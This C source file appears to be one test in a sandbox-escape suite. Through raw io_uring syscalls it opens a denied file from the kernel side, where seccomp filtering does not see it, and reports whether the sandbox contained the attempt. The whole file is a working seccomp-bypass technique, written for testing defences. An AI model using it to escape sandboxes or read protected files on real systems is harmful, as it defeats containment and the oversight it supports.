/* Attack: open a denied file from the kernel side with io_uring
 * (IORING_OP_OPENAT), which seccomp never sees, then read the fd it returns.
 * Raw syscalls, no liburing.
 *
 * Stops it: layer 3, the guest's filter answers io_uring_setup (and
 * io_uring_enter/register) with EPERM.
 * Natively: the ring opens the file and it reads the secret (ESCAPED),
 * unless the kernel has io_uring disabled (kernel.io_uring_disabled), in
 * which case the program says so (CONTAINED ... setup) and the driver
 * skips its native check.
 *
 * Usage: io_uring TOKEN PATH
 */
#include <linux/io_uring.h>
#include <sys/mman.h>
#include <sys/syscall.h>

#include "escape.h"

int main(int argc, char **argv)
{
	escape_init(argc, argv, "io_uring-openat", 1, "PATH");
	const char *path = argv[2];
	struct io_uring_params p;
	memset(&p, 0, sizeof(p));
	int ring = (int)syscall(SYS_io_uring_setup, 4, &p);
	if (ring < 0) {
		escape_note("io_uring_setup: %s", strerror(errno));
		contained();
	}
	size_t sq_len = p.sq_off.array + p.sq_entries * sizeof(unsigned);
	size_t cq_len = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
	char *sq = mmap(NULL, sq_len, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring,
	                IORING_OFF_SQ_RING);
	char *cq = mmap(NULL, cq_len, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring,
	                IORING_OFF_CQ_RING);
	struct io_uring_sqe *sqes =
	    mmap(NULL, p.sq_entries * sizeof(struct io_uring_sqe), PROT_READ | PROT_WRITE,
	         MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQES);
	if (sq == MAP_FAILED || cq == MAP_FAILED || sqes == MAP_FAILED)
		setup_failed("mmap of the rings: %s", strerror(errno));
	unsigned *sq_tail = (unsigned *)(sq + p.sq_off.tail);
	unsigned *sq_mask = (unsigned *)(sq + p.sq_off.ring_mask);
	unsigned *sq_array = (unsigned *)(sq + p.sq_off.array);
	unsigned *cq_head = (unsigned *)(cq + p.cq_off.head);
	unsigned *cq_tail = (unsigned *)(cq + p.cq_off.tail);
	unsigned *cq_mask = (unsigned *)(cq + p.cq_off.ring_mask);
	struct io_uring_cqe *cqes = (struct io_uring_cqe *)(cq + p.cq_off.cqes);

	unsigned tail = *sq_tail, idx = tail & *sq_mask;
	struct io_uring_sqe *sqe = &sqes[idx];
	memset(sqe, 0, sizeof(*sqe));
	sqe->opcode = IORING_OP_OPENAT;
	sqe->fd = AT_FDCWD;
	sqe->addr = (unsigned long)path;
	sqe->open_flags = O_RDONLY | O_CLOEXEC;
	sqe->user_data = 1;
	sq_array[idx] = idx;
	__atomic_store_n(sq_tail, tail + 1, __ATOMIC_RELEASE);
	if (syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0) {
		escape_note("io_uring_enter: %s", strerror(errno));
		contained();
	}
	unsigned head = __atomic_load_n(cq_head, __ATOMIC_ACQUIRE);
	if (head == __atomic_load_n(cq_tail, __ATOMIC_ACQUIRE))
		setup_failed("no completion");
	int res = cqes[head & *cq_mask].res;
	__atomic_store_n(cq_head, head + 1, __ATOMIC_RELEASE);
	if (res < 0) {
		escape_note("IORING_OP_OPENAT: %s", strerror(-res));
		contained();
	}
	char shown[256];
	if (fd_has_token(res, shown, sizeof(shown)))
		escaped("IORING_OP_OPENAT %s: read \"%s\"", path, shown);
	escape_note("IORING_OP_OPENAT opened %s, no secret", path);
	contained();
}
